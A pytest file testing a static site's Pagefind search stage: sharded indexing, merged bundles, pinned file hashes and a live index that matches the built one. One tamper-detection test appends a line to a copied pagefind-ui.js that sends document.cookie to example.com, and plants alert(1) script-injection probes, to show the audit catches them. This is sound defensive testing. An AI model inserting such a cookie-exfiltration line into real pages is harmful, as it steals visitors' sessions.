"""The search stage: Pagefind's shipped files are allowed by name and hash, and nothing else lands beside them."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from tracker import search

PAGE = ('<!doctype html><html lang="en"><head><title>{t}</title></head><body><main data-pagefind-body><h1>{t}</h1>'
        '<p>{t} LED packaging in Anyuan.</p><ul class="tr-related"><li>Jiaxing</li></ul></main></body></html>')


def _site(tmp_path: Path, names=("Tianyou",)) -> Path:
    site = tmp_path / "site"
    for i, name in enumerate(names):
        page = site / (f"p{i}/index.html" if i else "index.html")
        page.parent.mkdir(parents=True, exist_ok=True)
        page.write_text(PAGE.format(t=name))
    (site / "listing.html").write_text("<!doctype html><html><body><p>Jiaxing Tianyou listing</p></body></html>")
    return site


def _index(tmp_path: Path) -> Path:
    site = _site(tmp_path)
    findings = search.Indexer(site).finish()
    assert findings == []
    return site / search.FOLDER


def test_a_large_site_is_indexed_in_shards_that_the_ui_merges(tmp_path):
    """Pagefind's memory grows with the pages it holds: past SHARD_PAGES, bundles of their own."""
    import json

    site = _site(tmp_path, ("Alpha", "Bravo", "Charlie", "Delta", "Echo"))
    indexer = search.Indexer(site, shard_pages=2)
    assert indexer.finish() == []
    assert indexer.bundles == ["pagefind", "pagefind-2", "pagefind-3"]
    assert json.loads((site / "pagefind" / "bundles.json").read_text()) == {"merge": ["pagefind-2", "pagefind-3"]}
    counts = [json.loads((site / b / "pagefind-entry.json").read_text())["languages"]["en"]["page_count"]
              for b in indexer.bundles]
    assert counts == [2, 2, 1]  # the listing page (no data-pagefind-body) is in none of them
    assert not list(tmp_path.glob(".search-shard-*"))  # the shard views are gone
    (site / "pagefind-9").mkdir()
    assert search.audit_bundles(site) == ["pagefind-9/: a search bundle not listed in pagefind/bundles.json"]


def test_merged_bundles_are_searched_as_one(tmp_path):
    from tests.browser import chromium, serve

    site = _site(tmp_path, ("Alpha", "Bravo", "Charlie", "Delta", "Echo"))
    assert search.Indexer(site, shard_pages=2).finish() == []
    ui = (Path(__file__).resolve().parent.parent / "docs" / "assets" / "tracker.js").read_text()
    (site / "search.html").write_text('<!doctype html><html lang="en"><head><title>s</title></head><body>'
                                      '<div class="md-header__inner"></div>'
                                      f"<script>{ui}</script></body></html>")
    with serve(site) as url, chromium() as browser:
        page = browser.new_page()
        page.goto(url + "search.html")
        page.keyboard.press("/")
        page.locator(".pagefind-ui__search-input").fill("packaging")
        page.wait_for_function("[...document.querySelectorAll('.pagefind-ui__result-title')]"
                               ".filter(t => /^[A-Z][a-z]+$/.test(t.textContent.trim())).length === 5")
        titles = sorted(page.locator(".pagefind-ui__result-title").all_inner_texts())
        page.close()
    assert titles == ["Alpha", "Bravo", "Charlie", "Delta", "Echo"]  # from all three bundles


def test_shipped_files_are_those_of_the_pinned_pagefind(tmp_path):
    """SHIPPED holds the hashes of the pinned binary's files: an upgrade must update them, deliberately."""
    folder = _index(tmp_path)
    assert search.shipped_hashes(folder) == search.SHIPPED
    assert not any((folder / name).exists() for name in search.UNUSED)  # variants nothing loads are gone


def test_audit_refuses_changed_and_foreign_files(tmp_path):
    folder = _index(tmp_path)
    spare = tmp_path / "spare"
    shutil.copytree(folder, spare)
    with open(spare / "pagefind-ui.js", "a") as fh:
        fh.write("\nfetch('https://example.com/?' + document.cookie)\n")
    (spare / "extra.js").write_text("alert(1)")
    (spare / "fragment" / "evil.html").write_text("<script>alert(1)</script>")
    findings = search.audit(spare)
    assert "pagefind/pagefind-ui.js: not the file Pagefind ships (hash differs)" in findings
    assert "pagefind/extra.js: not a file Pagefind ships or an index file" in findings
    assert "pagefind/fragment/evil.html: not a file Pagefind ships or an index file" in findings
    assert len(findings) == 3


# A page as MkDocs writes it with overrides/main.html: the theme's heading (only when the content has none)
# and the content, inside the searched block, inside the theme's article.
BUILT = ('<!doctype html><html lang="en" class="no-js"><head><title>{t} - Tracker</title></head><body>'
         '<nav><a href="/">Tracker</a></nav><article class="md-content__inner md-typeset">{body}</article>'
         '<footer>Made with Material</footer></body></html>')
CONTENT = {  # a page in the site -> its converted content, or None: its front matter excludes it from search
    "index.html": "<h1>Tracker</h1>\n<p>Advanced packaging plants.</p>",
    "projects/index.html": None,
    "projects/alpha/index.html": '<h1 id="alpha">Alpha</h1>\n<p>Alpha LED packaging in Anyuan.</p>',
    "projects/bravo/index.html": "<h1>Bravo</h1>\n<p>Bravo HBM line in Jiaxing.</p>",
    "projects/charlie/index.html": "<p>Charlie test plant, a page without a heading of its own.</p>",
    "projects-list/2/index.html": None,
    "timeline/index.html": "<h1>Timeline</h1>\n<p>Signed in 2020.</p>",
}


def _built(rel: str, content: str | None) -> str:
    title = rel.split("/")[-2].title() if "/" in rel else "Tracker"
    if content is None:
        return BUILT.format(t=title, body=f"<h1>{title}</h1><p>listing</p>")
    heading = "" if "<h1" in content else f"\n  <h1>{title}</h1>\n\n"  # as the theme's partials/content.html
    return BUILT.format(t=title, body=f"<div data-pagefind-body>\n  \n  {heading}{content}\n\n\n</div>\n")


def _live_build(tmp_path: Path, edit=lambda rel, html: html) -> tuple[search.Indexer, Path]:
    """What the build hook does during a streamed build: name the pages, hand over each page's content in
    the order MkDocs reads it, write each page and check it."""
    site = tmp_path / "site"
    index = search.Indexer(site, shard_pages=2, live=True)
    assert search.Indexer.current is index
    index.plan(list(CONTENT), "en")
    read = list(CONTENT)  # as MkDocs reads them: a folder's pages (index first) before its subfolders
    for rel in read:
        title = rel.split("/")[-2].title() if "/" in rel else "Tracker"
        index.read(rel, CONTENT[rel], title)
    index.close()
    for rel in read:
        (site / rel).parent.mkdir(parents=True, exist_ok=True)
        html = edit(rel, _built(rel, CONTENT[rel]))
        (site / rel).write_text(html)
        index.check(rel, html)
    return index, site


def _bundles(site: Path) -> dict[str, bytes]:
    return {p.relative_to(site).as_posix(): p.read_bytes() for p in sorted(site.glob("pagefind*/**/*"))
            if p.is_file()}


def test_pages_indexed_as_they_are_read_give_the_bundles_of_the_built_site(tmp_path, caplog):
    """The live index (from each page's content, while MkDocs builds the others) is the same bytes as the
    index of the built site, shard by shard; each shard is queued as soon as its pages are known."""
    index = search.Indexer(tmp_path / "early" / "site", shard_pages=2, live=True)
    index.plan(list(CONTENT), "en")
    assert index.order[:3] == ["index.html", "projects/alpha/index.html", "projects/bravo/index.html"]
    index.read("index.html", CONTENT["index.html"], "Tracker")
    index.read("projects/alpha/index.html", CONTENT["projects/alpha/index.html"], "Alpha")
    assert index.queued == 1  # index.html and alpha: a shard, before any other page is read
    index.kill()
    index.thread.join()

    live, site = _live_build(tmp_path / "live")
    assert live.finish() == [] and search.Indexer.current is None
    assert "indexing the built site instead" not in caplog.text
    assert live.bundles == ["pagefind", "pagefind-2", "pagefind-3"]  # 5 searched pages, 2 to a shard
    assert not list((tmp_path / "live").glob(".search-shard-*"))
    assert list((tmp_path / "live" / "search-pages").iterdir()) == []  # each small page gone with its shard

    after = tmp_path / "after" / "site"
    shutil.copytree(site, after, ignore=shutil.ignore_patterns("pagefind*"))
    built = search.Indexer(after, shard_pages=2)
    assert built.finish() == []
    assert _bundles(site) == _bundles(after) and len(_bundles(site)) > 20


@pytest.mark.parametrize("edit, reason", [
    (lambda rel, html: html.replace("Jiaxing", "Jiaxing and Hefei"), "the searched part of the page is not its content"),
    (lambda rel, html: html.replace("<nav>", '<nav data-pagefind-filter="city:Hefei">'), "would read more"),
    (lambda rel, html: html.replace(' lang="en"', ''), "would read more"),
    (lambda rel, html: html if CONTENT[rel] else html.replace("<h1>", "<div data-pagefind-body><h1>"),
     "is searched as written, unlike as read"),
])
def test_a_written_page_unlike_its_content_drops_the_live_index(tmp_path, caplog, edit, reason):
    """If the theme puts into a page anything Pagefind would read that the page's content did not hold, the
    live bundles are not used: the built site is indexed, as on one core."""
    live, site = _live_build(tmp_path / "live", edit)
    assert live.finish() == []
    assert reason in caplog.text and "indexing the built site instead" in caplog.text
    after = tmp_path / "after" / "site"
    shutil.copytree(site, after, ignore=shutil.ignore_patterns("pagefind*"))
    assert search.Indexer(after, shard_pages=2).finish() == []
    assert _bundles(site) == _bundles(after)


def test_shards_follow_the_order_mkdocs_reads_pages_in(tmp_path):
    """A shard is indexed once all its pages are read: if the shard order strayed far from MkDocs' read
    order, shards would wait for the end of the read (the build would still be right, only slower)."""
    from mkdocs.config import load_config
    from mkdocs.structure.files import get_files

    from tracker import site as site_mod

    docs = tmp_path / "docs"
    data, derived = site_mod.prepare(site_mod.ROOT / "content")  # the bundled records: over a hundred pages
    site_mod.write_tree(site_mod.renderer(data, derived).jobs(), site_mod.ROOT / "docs", docs)
    cfg = load_config(str(site_mod.ROOT / "mkdocs.yml"), docs_dir=str(docs), site_dir=str(tmp_path / "site"))
    read = [f.dest_uri for f in get_files(cfg).documentation_pages()]
    when = {rel: i for i, rel in enumerate(read)}
    complete = [max(when[rel] for rel in sorted(read, key=search.page_order)[: k + 1]) for k in range(len(read))]
    lag = max(c - k for k, c in enumerate(complete))  # pages read beyond the first k+1 in shard order
    assert len(read) > 100 and lag <= 10, lag
